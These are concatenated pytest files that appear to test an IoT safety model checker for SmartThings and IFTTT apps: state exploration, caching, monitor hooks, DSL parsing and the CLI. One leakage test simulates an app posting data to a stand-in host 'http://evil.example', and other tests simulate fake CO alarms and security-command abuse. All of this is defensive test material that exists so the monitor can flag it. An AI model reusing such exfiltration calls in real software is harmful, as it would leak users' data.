    @pytest.mark.parametrize("strategy", ["dfs", "bfs", "priority"])
    def test_same_coverage_and_findings(self, alice_system, strategy):
        baseline = verify(alice_system, build_properties(), max_events=2)
        result = verify(alice_system, build_properties(), max_events=2,
                        strategy=strategy)
        assert result.states_explored == baseline.states_explored
        assert result.violated_property_ids == baseline.violated_property_ids

    def test_fingerprint_store_matches_exact(self, alice_system):
        exact = verify(alice_system, build_properties(), max_events=2,
                       visited="exact")
        fingerprint = verify(alice_system, build_properties(), max_events=2,
                             visited="fingerprint")
        assert fingerprint.states_explored == exact.states_explored
        assert (fingerprint.violated_property_ids
                == exact.violated_property_ids)

    def test_unknown_visited_store_raises(self):
        with pytest.raises(KeyError):
            EngineOptions(visited="quantum").make_visited()

    def test_visited_stats_on_result(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=1)
        assert result.visited_stats.get("stored", 0) > 0

    def test_states_per_second(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=1)
        assert result.states_per_second > 0


class TestSuccessorCache:
    """The per-state transition memo: identical outcomes, fewer cascades."""

    def test_cache_stats_on_result(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=2)
        assert result.cache_mode == "fingerprint"
        assert result.cache_misses > 0

    def test_cache_off_is_identical(self, alice_system):
        cached = verify(alice_system, build_properties(), max_events=2)
        uncached = verify(alice_system, build_properties(), max_events=2,
                          successor_cache=False)
        assert uncached.cache_mode == "off"
        assert uncached.cache_misses == 0
        assert cached.states_explored == uncached.states_explored
        assert cached.transitions == uncached.transitions
        assert (sorted(cached.counterexamples)
                == sorted(uncached.counterexamples))

    def test_replayed_expansions_match_live(self, generator, alice_config):
        """Force re-expansion (a state reached again at smaller depth via
        BFS-after-DFS ordering is rare at tiny bounds, so compare a deeper
        run): hit or not, outcomes must be identical."""
        system = generator.build(alice_config)
        deep_cached = verify(system, build_properties(), max_events=3)
        deep_uncached = verify(system, build_properties(), max_events=3,
                               successor_cache=False)
        assert deep_cached.states_explored == deep_uncached.states_explored
        assert deep_cached.transitions == deep_uncached.transitions
        assert (sorted(deep_cached.counterexamples)
                == sorted(deep_uncached.counterexamples))

    def test_cache_limit_zero_records_nothing(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=2,
                        cache_limit=0)
        assert result.cache_hits == 0

    def test_hit_rate_on_result(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=2)
        lookups = result.cache_hits + result.cache_misses
        assert lookups > 0
        assert result.cache_hit_rate == result.cache_hits / lookups

    def test_auto_disable_below_threshold(self, alice_system):
        """A cold cache is switched off (and emptied) once a full
        post-warmup window stays under the threshold, instead of burning
        memory for the rest of the run.  The first ``warmup`` lookups
        are exempt (compulsory misses), so the window must fit in the
        run's lookup budget."""
        cold = verify(alice_system, build_properties(), max_events=2,
                      cache_warmup=2, cache_min_hit_rate=0.99)
        assert cold.cache_auto_disabled
        assert "hit rate" in cold.cache_disable_reason
        baseline = verify(alice_system, build_properties(), max_events=2,
                          successor_cache=False)
        assert cold.states_explored == baseline.states_explored
        assert cold.transitions == baseline.transitions
        assert (sorted(cold.counterexamples)
                == sorted(baseline.counterexamples))

    def test_warmup_misses_do_not_disable(self, alice_system):
        """The compulsory cold streak at the start of a search must not
        condemn the cache before a revisit is even possible: with the
        whole run inside the warmup window, the cache stays on."""
        result = verify(alice_system, build_properties(), max_events=2,
                        cache_warmup=4096, cache_min_hit_rate=0.99)
        assert not result.cache_auto_disabled
        assert result.cache_disable_reason is None

    def test_auto_disable_off_when_threshold_zero(self, alice_system):
        result = verify(alice_system, build_properties(), max_events=2,
                        cache_warmup=2, cache_min_hit_rate=0)
        assert not result.cache_auto_disabled

    def test_lru_evicts_oldest_entry(self):
        from repro.engine.core import _SuccessorCache

        cache = _SuccessorCache(EngineOptions(cache_limit=2,
                                              cache_min_hit_rate=0))
        cache.store("a", ["expansion-a"])
        cache.store("b", ["expansion-b"])
        assert cache.lookup("a") == ["expansion-a"]  # refreshes "a"
        cache.store("c", ["expansion-c"])            # evicts "b", not "a"
        assert cache.lookup("b") is None
        assert cache.lookup("a") == ["expansion-a"]
        assert cache.lookup("c") == ["expansion-c"]
        assert len(cache.entries) == 2

    def test_lru_keeps_working_past_old_hard_stop(self, alice_system):
        """cache_limit now bounds *live* entries (LRU), not total
        recordings: a tiny limit must not freeze or break the search."""
        small = verify(alice_system, build_properties(), max_events=2,
                       cache_limit=3, cache_min_hit_rate=0)
        unlimited = verify(alice_system, build_properties(), max_events=2,
                           cache_min_hit_rate=0)
        assert small.states_explored == unlimited.states_explored
        assert small.transitions == unlimited.transitions
        assert (sorted(small.counterexamples)
                == sorted(unlimited.counterexamples))


class TestCompiledOption:
    def test_no_compile_flag_switches_backend(self, alice_system):
        compiled = verify(alice_system, build_properties(), max_events=2)
        interpreted = verify(alice_system, build_properties(), max_events=2,
                             compiled=False)
        assert compiled.states_explored == interpreted.states_explored
        assert (sorted(compiled.counterexamples)
                == sorted(interpreted.counterexamples))

    def test_engine_toggles_system_backend(self, alice_system):
        verify(alice_system, build_properties(), max_events=1, compiled=False)
        assert alice_system.use_compiled is False
        verify(alice_system, build_properties(), max_events=1)
        assert alice_system.use_compiled is True


class TestExactModeHasNoHashShortcuts:
    def test_exact_store_disables_invariant_memo(self, alice_system):
        exact = verify(alice_system, build_properties(), max_events=2,
                       visited="exact")
        assert exact.property_stats.get("invariant_memo_misses", 0) == 0
        assert exact.property_stats.get("invariant_memo_hits", 0) == 0
        memoized = verify(alice_system, build_properties(), max_events=2)
        assert memoized.property_stats["invariant_memo_misses"] > 0
        assert (sorted(exact.counterexamples)
                == sorted(memoized.counterexamples))


class TestEngineGc:
    def test_gc_restored_after_run(self, alice_system):
        import gc

        assert gc.isenabled()
        verify(alice_system, build_properties(), max_events=1)
        assert gc.isenabled()

    def test_gc_left_alone_when_unmanaged(self, alice_system):
        import gc

        verify(alice_system, build_properties(), max_events=1,
               manage_gc=False)
        assert gc.isenabled()


class TestSeenState:
    """The hybrid fingerprint-first path of the exact store."""

    def test_exact_seen_state_depth_aware(self):
        from repro.checker.visited import ExactVisitedSet

        store = ExactVisitedSet()
        state = ModelState()
        state.set_attribute("d", "a", 1)
        assert store.seen_state(state, 2) is False
        dup = state.copy()
        assert store.seen_state(dup, 3) is True   # deeper: prune
        assert store.seen_state(dup, 1) is False  # shallower: re-expand
        assert store.seen_state(dup, 1) is True
        assert len(store) == 1

    def test_exact_seen_state_distinguishes_states(self):
        from repro.checker.visited import ExactVisitedSet

        store = ExactVisitedSet()
        one = ModelState()
        one.set_attribute("d", "a", 1)
        two = ModelState()
        two.set_attribute("d", "a", 2)
        assert store.seen_state(one, 0) is False
        assert store.seen_state(two, 0) is False
        assert store.seen_state(two.copy(), 0) is True
        assert len(store) == 2


class TestExplorerShim:
    def test_shim_names_are_engine_objects(self):
        from repro.checker import explorer

        assert explorer.Explorer is ExplorationEngine
        assert explorer.ExplorerOptions is EngineOptions
        assert explorer.verify is verify

    def test_shim_verify_still_works(self, alice_system):
        from repro.checker.explorer import verify as shim_verify

        result = shim_verify(alice_system, build_properties(), max_events=1)
        assert "P06" in result.violated_property_ids


class TestVerifyMany:
    @pytest.fixture()
    def jobs(self, alice_config):
        options = EngineOptions(max_events=1)
        return [VerificationJob("job%d" % index, alice_config, options,
                                strict=False)
                for index in range(4)]

    def test_serial_inline_execution(self, jobs):
        batch = verify_many(jobs, workers=1)
        assert len(batch) == 4 and not batch.errors
        assert batch.workers == 1
        for result in batch:
            assert "P06" in result.violated_property_ids

    def test_parallel_matches_serial(self, jobs):
        serial = verify_many(jobs, workers=1)
        parallel = verify_many(jobs, workers=2)
        assert not parallel.errors
        assert parallel.states_explored == serial.states_explored
        assert (parallel.violated_property_ids
                == serial.violated_property_ids)

    def test_merged_statistics(self, jobs):
        batch = verify_many(jobs, workers=1)
        one = batch["job0"]
        assert batch.states_explored == one.states_explored * 4
        assert batch.transitions == one.transitions * 4
        assert batch.job_seconds >= one.elapsed
        assert batch.has_violations
        summary = batch.summary()
        assert "job0" in summary and "4 job(s)" in summary

    def test_submission_order_preserved(self, jobs):
        batch = verify_many(jobs, workers=2)
        assert list(batch.results) == ["job0", "job1", "job2", "job3"]

    def test_job_errors_reported_not_raised(self, alice_config):
        bad = VerificationJob("bad", alice_config,
                              EngineOptions(visited="quantum"))
        good = VerificationJob("good", alice_config,
                               EngineOptions(max_events=1), strict=False)
        batch = verify_many([bad, good], workers=1)
        assert "bad" in batch.errors
        assert "KeyError" in batch.errors["bad"]
        assert "good" in batch.results

    def test_per_job_options(self, alice_config):
        jobs = [VerificationJob("shallow", alice_config,
                                EngineOptions(max_events=1), strict=False),
                VerificationJob("deep", alice_config,
                                EngineOptions(max_events=2), strict=False)]
        batch = verify_many(jobs, workers=1)
        assert (batch["deep"].states_explored
                > batch["shallow"].states_explored)

    def test_check_configurations_facade(self, alice_config):
        from repro import check_configurations

        batch = check_configurations({"alice": alice_config}, workers=1,
                                     max_events=1)
        assert "P06" in batch.violated_property_ids


class TestVolunteerJobs:
    def test_seventy_jobs(self, registry):
        from repro.attribution.volunteers import volunteer_verification_jobs

        jobs = volunteer_verification_jobs(registry)
        assert len(jobs) == 70
        names = {job.name for job in jobs}
        assert "vgroup01/volunteer1-maximalist" in names

    def test_group_filter(self, registry):
        from repro.attribution.volunteers import volunteer_verification_jobs

        jobs = volunteer_verification_jobs(registry, groups=["vgroup02"],
                                           profiles=["volunteer1-maximalist"])
        assert [job.name for job in jobs] == [
            "vgroup02/volunteer1-maximalist"]
