"""Unit tests for the model-checker state vector."""

from repro.model.state import ModelState


class TestReadsWrites:
    def test_attribute_unknown_is_none(self):
        state = ModelState()
        assert state.attribute("d", "switch") is None

    def test_set_and_get(self):
        state = ModelState()
        state.set_attribute("d", "switch", "on")
        assert state.attribute("d", "switch") == "on"

    def test_app_state_created_on_demand(self):
        state = ModelState()
        state.app_state("App")["count"] = 1
        assert state.app_states["App"]["count"] == 1


class TestHistory:
    def test_record_event(self):
        state = ModelState()
        state.record_event("d", "switch", "on")
        assert state.device_history("d") == (("switch", "on", 0),)

    def test_history_bounded(self):
        state = ModelState()
        for index in range(10):
            state.record_event("d", "switch", "v%d" % index)
        assert len(state.device_history("d")) == ModelState.HISTORY_LIMIT

    def test_history_keeps_newest(self):
        state = ModelState()
        for index in range(10):
            state.record_event("d", "switch", index)
        values = [value for _a, value, _t in state.device_history("d")]
        assert values == [6, 7, 8, 9]


class TestSchedules:
    def test_add_schedule_idempotent(self):
        state = ModelState()
        state.add_schedule("App", "h")
        state.add_schedule("App", "h")
        assert len(state.schedules) == 1

    def test_remove_specific_schedule(self):
        state = ModelState()
        state.add_schedule("App", "h1")
        state.add_schedule("App", "h2")
        state.remove_schedule("App", "h1")
        assert state.schedules == (("App", "h2", False),)

    def test_remove_all_app_schedules(self):
        state = ModelState()
        state.add_schedule("App", "h1")
        state.add_schedule("App", "h2")
        state.remove_schedule("App")
        assert state.schedules == ()


class TestCopySemantics:
    def test_copy_isolates_devices(self):
        state = ModelState()
        state.set_attribute("d", "switch", "off")
        clone = state.copy()
        clone.set_attribute("d", "switch", "on")
        assert state.attribute("d", "switch") == "off"

    def test_copy_isolates_app_state(self):
        state = ModelState()
        state.app_state("App")["x"] = [1]
        clone = state.copy()
        clone.app_state("App")["x"].append(2)
        assert state.app_state("App")["x"] == [1]

    def test_copy_preserves_mode_and_time(self):
        state = ModelState(mode="Night", time=120)
        clone = state.copy()
        assert clone.mode == "Night"
        assert clone.time == 120


class TestKey:
    def test_key_equal_for_equal_states(self):
        a, b = ModelState(), ModelState()
        for state in (a, b):
            state.set_attribute("d", "switch", "on")
            state.mode = "Away"
        assert a.key() == b.key()

    def test_key_differs_on_attribute(self):
        a, b = ModelState(), ModelState()
        a.set_attribute("d", "switch", "on")
        b.set_attribute("d", "switch", "off")
        assert a.key() != b.key()

    def test_key_differs_on_mode(self):
        a = ModelState(mode="Home")
        b = ModelState(mode="Away")
        assert a.key() != b.key()

    def test_key_ignores_time(self):
        # "the clock is deliberately excluded" - time only orders history
        a = ModelState(time=0)
        b = ModelState(time=99999)
        assert a.key() == b.key()

    def test_key_hashable(self):
        state = ModelState()
        state.app_state("App")["nested"] = {"list": [1, 2], "map": {"k": "v"}}
        hash(state.key())

    def test_key_stable_under_copy(self):
        state = ModelState()
        state.set_attribute("d", "lock", "locked")
        state.app_state("A")["x"] = [1, {"y": 2}]
        state.add_schedule("A", "h", periodic=True)
        assert state.copy().key() == state.key()

    def test_key_order_independent_for_devices(self):
        a, b = ModelState(), ModelState()
        a.set_attribute("d1", "switch", "on")
        a.set_attribute("d2", "switch", "off")
        b.set_attribute("d2", "switch", "off")
        b.set_attribute("d1", "switch", "on")
        assert a.key() == b.key()
