"""Unit tests for the safety monitor's hooks (conflicts, repeats, leakage,
security commands, fake events, robustness)."""

import pytest

from repro.checker.monitor import SafetyMonitor
from repro.properties import build_properties


@pytest.fixture()
def monitor(alice_system):
    return SafetyMonitor(alice_system, build_properties())


def effect_of(system, device, command):
    return system.devices[device].command(command)


class TestConflictingCommands:
    def test_on_off_conflict_detected(self, alice_system, monitor):
        lock = effect_of(alice_system, "doorLock", "lock")
        unlock = effect_of(alice_system, "doorLock", "unlock")
        monitor.on_command("doorLock", "lock", (), "A", lock)
        monitor.on_command("doorLock", "unlock", (), "B", unlock)
        assert any(v.property.id == "P39" for v in monitor.violations)

    def test_conflict_names_both_apps(self, alice_system, monitor):
        lock = effect_of(alice_system, "doorLock", "lock")
        unlock = effect_of(alice_system, "doorLock", "unlock")
        monitor.on_command("doorLock", "lock", (), "A", lock)
        monitor.on_command("doorLock", "unlock", (), "B", unlock)
        violation = next(v for v in monitor.violations
                         if v.property.id == "P39")
        assert set(violation.apps) == {"A", "B"}

    def test_different_devices_no_conflict(self, alice_system, monitor):
        lock = effect_of(alice_system, "doorLock", "lock")
        monitor.on_command("doorLock", "lock", (), "A", lock)
        monitor.on_command("otherLock", "unlock", (), "B",
                           effect_of(alice_system, "doorLock", "unlock"))
        assert not any(v.property.id == "P39" for v in monitor.violations)


class TestRepeatedCommands:
    def test_same_command_twice_detected(self, alice_system, monitor):
        unlock = effect_of(alice_system, "doorLock", "unlock")
        monitor.on_command("doorLock", "unlock", (), "A", unlock)
        monitor.on_command("doorLock", "unlock", (), "B", unlock)
        assert any(v.property.id == "P40" for v in monitor.violations)

    def test_different_payloads_not_repeated(self, alice_system, monitor):
        effect = effect_of(alice_system, "doorLock", "unlock")
        monitor.on_command("doorLock", "unlock", ("a",), "A", effect)
        monitor.on_command("doorLock", "unlock", ("b",), "B", effect)
        assert not any(v.property.id == "P40" for v in monitor.violations)


class TestLeakage:
    def test_http_flagged(self, monitor):
        monitor.on_http("EvilApp", "httpPost", "http://evil.example")
        assert any(v.property.id == "P41" for v in monitor.violations)

    def test_http_allowed_apps_pass(self, generator, alice_config):
        alice_config.http_allowed = ["GoodApp"]
        system = generator.build(alice_config)
        monitor = SafetyMonitor(system, build_properties())
        monitor.on_http("GoodApp", "httpPost", "http://vendor.example")
        assert not monitor.violations

    def test_sms_to_configured_contact_ok(self, monitor):
        monitor.on_sms("App", "+1-555-0100", "hello")
        assert not monitor.violations

    def test_sms_to_unknown_recipient_flagged(self, monitor):
        monitor.on_sms("App", "+1-999-9999", "secret")
        assert any(v.property.id == "P42" for v in monitor.violations)

    def test_security_command_flagged(self, monitor):
        monitor.on_security_command("App", "unsubscribe")
        assert any(v.property.id == "P43" for v in monitor.violations)

    def test_fake_event_flagged(self, monitor):
        monitor.on_fake_event("App", "carbonMonoxide", "detected")
        assert any(v.property.id == "P44" for v in monitor.violations)


class TestRobustness:
    def test_dropped_command_without_notification(self, alice_system,
                                                  monitor):
        monitor.on_command_dropped("doorLock", "lock", "App", "offline")
        violations = monitor.finish(alice_system.initial_state())
        assert any(v.property.id == "P45" for v in violations)

    def test_dropped_command_with_sms_ok(self, alice_system, monitor):
        monitor.on_command_dropped("doorLock", "lock", "App", "offline")
        monitor.on_sms("App", "+1-555-0100", "lock failed!")
        violations = monitor.finish(alice_system.initial_state())
        assert not any(v.property.id == "P45" for v in violations)

    def test_dropped_command_with_push_ok(self, alice_system, monitor):
        monitor.on_command_dropped("doorLock", "lock", "App", "offline")
        monitor.on_push("App", "lock failed!")
        violations = monitor.finish(alice_system.initial_state())
        assert not any(v.property.id == "P45" for v in violations)


class TestInvariantChecking:
    def test_unsafe_state_reported(self, alice_system, monitor):
        state = alice_system.initial_state()
        state.set_attribute("alicePresence", "presence", "not present")
        state.set_attribute("doorLock", "lock", "unlocked")
        monitor.check_invariants(state)
        assert any(v.property.id == "P06" for v in monitor.violations)

    def test_safe_state_clean(self, alice_system, monitor):
        monitor.check_invariants(alice_system.initial_state())
        assert not monitor.violations

    def test_actor_attribution(self, alice_system, monitor):
        monitor.on_actor("Unlock Door")
        state = alice_system.initial_state()
        state.set_attribute("alicePresence", "presence", "not present")
        state.set_attribute("doorLock", "lock", "unlocked")
        monitor.check_invariants(state)
        violation = next(v for v in monitor.violations
                         if v.property.id == "P06")
        assert "Unlock Door" in violation.apps

    def test_duplicate_violations_deduplicated(self, alice_system, monitor):
        state = alice_system.initial_state()
        state.set_attribute("alicePresence", "presence", "not present")
        state.set_attribute("doorLock", "lock", "unlocked")
        monitor.check_invariants(state)
        monitor.check_invariants(state)
        p06 = [v for v in monitor.violations if v.property.id == "P06"]
        assert len(p06) == 1

    def test_inapplicable_invariants_skipped(self, alice_system):
        """Properties whose roles are unbound never fire (no heater here)."""
        monitor = SafetyMonitor(alice_system, build_properties())
        state = alice_system.initial_state()
        monitor.check_invariants(state)
        assert not any(v.property.id in ("P01", "P02", "P03")
                       for v in monitor.violations)
