"""Unit tests for the SmartThings DSL extraction (§6 SmartThings Handler)."""

from tests.helpers import make_app

_VIRTUAL_THERMOSTAT_PREFS = '''
definition(name: "VT", namespace: "t", author: "t",
           description: "Control a space heater or window AC",
           category: "Green Living")

preferences {
    section("Choose a temperature sensor ... ") {
        input "sensor", "capability.temperatureMeasurement", title: "Sensor"
    }
    section("Select the heater or air conditioner outlet(s)... ") {
        input "outlets", "capability.switch", title: "Outlets", multiple: true
    }
    section("Set the desired temperature ...") {
        input "setpoint", "decimal", title: "Set Temp"
    }
    section("When there's been movement from (optional)") {
        input "motion", "capability.motionSensor", title: "Motion", required: false
    }
    section("Within this number of minutes ...") {
        input "minutes", "number", title: "Minutes", required: false
    }
    section("Select 'heat' for a heater and 'cool' for an air conditioner ...") {
        input "mode", "enum", title: "Heating or cooling?", options: ["heat", "cool"]
    }
}
def installed() { }
'''


class TestDefinition:
    def test_name_extracted(self):
        app = make_app(_VIRTUAL_THERMOSTAT_PREFS)
        assert app.name == "VT"

    def test_description_extracted(self):
        app = make_app(_VIRTUAL_THERMOSTAT_PREFS)
        assert "heater" in app.definition["description"]


class TestInputs:
    """The paper's Figure 1 preferences block."""

    def test_all_inputs_found(self):
        app = make_app(_VIRTUAL_THERMOSTAT_PREFS)
        names = [i.name for i in app.inputs]
        assert names == ["sensor", "outlets", "setpoint", "motion",
                         "minutes", "mode"]

    def test_device_input_capability(self):
        app = make_app(_VIRTUAL_THERMOSTAT_PREFS)
        sensor = app.input("sensor")
        assert sensor.is_device
        assert sensor.capability == "temperatureMeasurement"

    def test_multiple_flag(self):
        app = make_app(_VIRTUAL_THERMOSTAT_PREFS)
        assert app.input("outlets").multiple is True
        assert app.input("sensor").multiple is False

    def test_optional_flag(self):
        app = make_app(_VIRTUAL_THERMOSTAT_PREFS)
        assert app.input("motion").required is False
        assert app.input("setpoint").required is True

    def test_value_input_not_device(self):
        app = make_app(_VIRTUAL_THERMOSTAT_PREFS)
        assert not app.input("setpoint").is_device
        assert app.input("setpoint").capability is None

    def test_enum_options(self):
        app = make_app(_VIRTUAL_THERMOSTAT_PREFS)
        assert app.input("mode").options == ["heat", "cool"]

    def test_unknown_input_is_none(self):
        app = make_app(_VIRTUAL_THERMOSTAT_PREFS)
        assert app.input("nope") is None


class TestSubscriptions:
    def test_device_subscription_with_value(self):
        app = make_app('''
definition(name: "S", namespace: "t", author: "t", description: "d", category: "c")
preferences { section("s") { input "contact1", "capability.contactSensor" } }
def installed() { subscribe(contact1, "contact.open", openHandler) }
def openHandler(evt) { }
''')
        (sub,) = app.subscriptions
        assert sub.source == "contact1"
        assert sub.attribute == "contact"
        assert sub.value == "open"
        assert sub.handler == "openHandler"

    def test_device_subscription_any_value(self):
        app = make_app('''
definition(name: "S", namespace: "t", author: "t", description: "d", category: "c")
preferences { section("s") { input "contact1", "capability.contactSensor" } }
def installed() { subscribe(contact1, "contact", handler) }
def handler(evt) { }
''')
        (sub,) = app.subscriptions
        assert sub.attribute == "contact"
        assert sub.value is None

    def test_app_touch_subscription(self):
        app = make_app('''
definition(name: "S", namespace: "t", author: "t", description: "d", category: "c")
def installed() { subscribe(app, appTouch) }
def appTouch(evt) { }
''')
        (sub,) = app.subscriptions
        assert sub.source == "app"
        assert sub.handler == "appTouch"

    def test_location_mode_subscription(self):
        app = make_app('''
definition(name: "S", namespace: "t", author: "t", description: "d", category: "c")
def installed() { subscribe(location, changedLocationMode) }
def changedLocationMode(evt) { }
''')
        (sub,) = app.subscriptions
        assert sub.source == "location"
        assert sub.attribute == "mode"

    def test_duplicate_registrations_deduplicated(self):
        # installed() and updated() both register; only one runs at a time
        app = make_app('''
definition(name: "S", namespace: "t", author: "t", description: "d", category: "c")
preferences { section("s") { input "m", "capability.motionSensor" } }
def installed() { subscribe(m, "motion", h) }
def updated() { unsubscribe()\n subscribe(m, "motion", h) }
def h(evt) { }
''')
        assert len(app.subscriptions) == 1


class TestSchedules:
    def test_run_in_extracted(self):
        app = make_app('''
definition(name: "S", namespace: "t", author: "t", description: "d", category: "c")
def h(evt) { runIn(600, turnOff) }
def turnOff() { }
''')
        assert ("runIn", "turnOff") in [(api, h) for api, h, _l in app.schedules]

    def test_schedule_extracted(self):
        app = make_app('''
definition(name: "S", namespace: "t", author: "t", description: "d", category: "c")
def installed() { schedule("0 0 22 * * ?", nightly) }
def nightly() { }
''')
        assert ("schedule", "nightly") in [(api, h) for api, h, _l in app.schedules]

    def test_run_every_extracted(self):
        app = make_app('''
definition(name: "S", namespace: "t", author: "t", description: "d", category: "c")
def installed() { runEvery5Minutes(poll) }
def poll() { }
''')
        assert ("runEvery5Minutes", "poll") in [(api, h)
                                                for api, h, _l in app.schedules]


class TestHandlerNames:
    def test_handler_names_cover_subscriptions_and_schedules(self):
        app = make_app('''
definition(name: "S", namespace: "t", author: "t", description: "d", category: "c")
preferences { section("s") { input "m", "capability.motionSensor" } }
def installed() { subscribe(m, "motion.active", onMotion)\n runIn(60, off) }
def onMotion(evt) { }
def off() { }
''')
        assert set(app.handler_names) >= {"onMotion", "off"}
