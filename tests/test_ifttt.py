"""Unit tests for the IFTTT support (§11, Table 9)."""

import json
import re

import pytest

from repro.checker.explorer import Explorer, ExplorerOptions
from repro.ifttt import (
    Applet,
    SERVICES,
    TABLE9_PROPERTIES,
    parse_applet,
    service,
    table9_applets,
    table9_configuration,
    translate_applet,
)
from repro.ifttt.table9 import TABLE9_EXPECTED, table9_registry
from repro.ifttt.translator import IFTTTTranslator
from repro.model.generator import ModelGenerator


class TestAppletModel:
    def test_parse_json(self):
        data = {"id": "r1", "name": "Rule 1",
                "trigger": {"service": "smartthings-motion",
                            "event": "motion-detected"},
                "action": {"service": "ring-alarm",
                           "command": "sound-siren"}}
        applet = parse_applet(json.dumps(data))
        assert applet.id == "r1"
        assert applet.trigger_service == "smartthings-motion"
        assert applet.action == "sound-siren"

    def test_roundtrip(self):
        applet = Applet("r1", "Rule 1", "amazon-alexa", "say-phrase",
                        "august-lock", "unlock", description="d")
        assert parse_applet(applet.to_json()).to_dict() == applet.to_dict()

    def test_bundled_applets(self):
        applets = table9_applets()
        assert len(applets) == 10
        assert [a.id for a in applets] == ["rule%02d" % i
                                           for i in range(1, 11)]


class TestServices:
    def test_paper_service_mapping(self):
        """Alexa/Google Assistant are sensors; Nest is an actuator (§11)."""
        assert service("amazon-alexa").is_sensor
        assert service("google-assistant").is_sensor
        assert service("nest-thermostat").is_actuator

    def test_every_service_has_known_device_type(self):
        from repro.devices import device_spec

        for svc in SERVICES.values():
            assert device_spec(svc.device_type) is not None

    def test_trigger_lookup(self):
        trigger = service("smartthings-motion").trigger("motion-detected")
        assert trigger.attribute == "motion"
        assert trigger.value == "active"

    def test_action_lookup(self):
        action = service("august-lock").action("unlock")
        assert action.command == "unlock"

    def test_unknown_service_raises(self):
        with pytest.raises(KeyError):
            service("tumblr")

    def test_unknown_trigger_raises(self):
        with pytest.raises(KeyError):
            service("smartthings-motion").trigger("volcano-erupts")


class TestTranslator:
    @pytest.fixture()
    def rule1(self):
        return table9_applets()[0]

    def test_generated_groovy_parses(self, rule1):
        app = translate_applet(rule1)
        assert app.name == rule1.name

    def test_single_event_handler(self, rule1):
        """'Each rule is considered as an app, which has only a single
        event handler' (§11)."""
        app = translate_applet(rule1)
        assert len(app.subscriptions) == 1
        assert app.subscriptions[0].handler == "ruleHandler"

    def test_trigger_becomes_subscription(self, rule1):
        app = translate_applet(rule1)
        sub = app.subscriptions[0]
        assert sub.attribute == "motion"
        assert sub.value == "active"

    def test_devices_become_class_fields(self, rule1):
        app = translate_applet(rule1)
        names = [i.name for i in app.inputs]
        assert names == ["triggerDevice", "actionDevice"]

    def test_translate_all(self):
        registry = table9_registry()
        assert len(registry) == 10

    def test_build_configuration_shares_service_devices(self):
        translator = IFTTTTranslator()
        config = translator.build_configuration(table9_applets())
        # rules 1 and 7 both trigger on smartthings-motion: same device
        by_app = {a.app: a.bindings for a in config.apps}
        assert (by_app["Rule #1: Motion sounds the siren"]["triggerDevice"]
                == by_app["Rule #7: Motion calls my phone"]["triggerDevice"])

    def test_configuration_buildable(self):
        registry = table9_registry()
        config = table9_configuration()
        system = ModelGenerator(registry).build(config)
        assert len(system.apps) == 10


class TestTable9Verification:
    @pytest.fixture(scope="class")
    def result(self):
        registry = table9_registry()
        config = table9_configuration()
        system = ModelGenerator(registry).build(config)
        options = ExplorerOptions(max_events=2, max_states=100000)
        return Explorer(system, TABLE9_PROPERTIES, options).run()

    def test_all_four_properties_violated(self, result):
        assert set(result.violated_property_ids) == {"I01", "I02", "I03",
                                                     "I04"}

    def test_paper_rule_groups_reproduced(self, result):
        found = {}
        for ce in result.counterexamples.values():
            rules = {int(m.group(1)) for m in
                     (re.match(r"Rule #(\d+)", a)
                      for a in set(ce.violation.apps)) if m}
            found.setdefault(ce.violation.property.id, []).append(rules)
        for property_id, groups in TABLE9_EXPECTED.items():
            for expected in groups:
                numbers = {int(r.replace("rule", "").lstrip("0"))
                           for r in expected}
                assert any(numbers <= rules
                           for rules in found.get(property_id, [])), (
                    property_id, numbers)

    def test_good_night_phrase_disables_siren(self, result):
        """The signature Table-9 interaction: rule #4 defeats rule #1."""
        ce = next(c for c in result.counterexamples.values()
                  if c.violation.property.id == "I01")
        apps = " ".join(ce.violation.apps)
        assert "#4" in apps
