"""CLI smoke tests (``python -m repro ...``)."""

import json

import pytest

from repro.cli import build_parser, main


def run_cli(*argv, capsys=None):
    code = main(list(argv))
    output = capsys.readouterr().out if capsys else ""
    return code, output


class TestParser:
    def test_requires_command(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_known_commands(self):
        parser = build_parser()
        for command in ("apps", "properties", "analyze", "check", "emit",
                        "attribute"):
            args = parser.parse_args(
                [command] + ([] if command in ("apps", "properties")
                             else ["group1-entry-and-mode"]
                             if command != "attribute"
                             else ["Unlock Door", "group1-entry-and-mode"]))
            assert args.command == command


class TestApps:
    def test_lists_market_apps(self, capsys):
        code, out = run_cli("apps", capsys=capsys)
        assert code == 0
        assert "Virtual Thermostat" in out

    def test_all_includes_malicious_and_ifttt(self, capsys):
        code, out = run_cli("apps", "--all", capsys=capsys)
        assert code == 0
        assert "Fake CO Alarm" in out
        assert "Rule #1" in out


class TestProperties:
    def test_lists_all_categories(self, capsys):
        code, out = run_cli("properties", capsys=capsys)
        assert code == 0
        assert "P01" in out and "P45" in out
        assert "Lock and door control" in out

    def test_verbose_shows_ltl(self, capsys):
        _code, out = run_cli("properties", "-v", capsys=capsys)
        assert "LTL:" in out


class TestAnalyze:
    def test_bundled_group(self, capsys):
        code, out = run_cli("analyze", "group1-entry-and-mode",
                            capsys=capsys)
        assert code == 0
        assert "scale ratio" in out

    def test_unknown_config_exits(self, capsys):
        with pytest.raises(SystemExit):
            run_cli("analyze", "no-such-group", capsys=capsys)


class TestCheck:
    def test_violating_group_returns_1(self, capsys):
        code, out = run_cli("check", "group1-entry-and-mode",
                            "--max-events", "2", capsys=capsys)
        assert code == 1
        assert "violation" in out

    def test_trace_prints_spin_log(self, capsys):
        _code, out = run_cli("check", "group1-entry-and-mode",
                             "--max-events", "2", "--trace", capsys=capsys)
        assert "SmartThings0.prom" in out

    def test_property_selection(self, capsys):
        code, out = run_cli("check", "group1-entry-and-mode",
                            "--max-events", "2",
                            "--properties", "P39", "P40", capsys=capsys)
        assert "P06" not in out

    def test_workers_flag_shards_and_matches_single(self, capsys):
        """`repro check --workers 2` must report identical verdicts and
        identical rendered traces to the plain run (the swarm tentpole's
        CLI surface), plus the per-shard summary line."""
        code, out = run_cli("check", "group1-entry-and-mode",
                            "--max-events", "2", "--trace", capsys=capsys)
        code2, out2 = run_cli("check", "group1-entry-and-mode",
                              "--max-events", "2", "--trace",
                              "--workers", "2", capsys=capsys)
        assert (code, code2) == (1, 1)
        assert "sharded across 2 workers" in out2
        # the violation lines and the rendered violation log are
        # byte-identical; only the stats lines may differ
        def tail(text):
            return text[text.index("SmartThings0.prom"):]
        assert tail(out) == tail(out2)
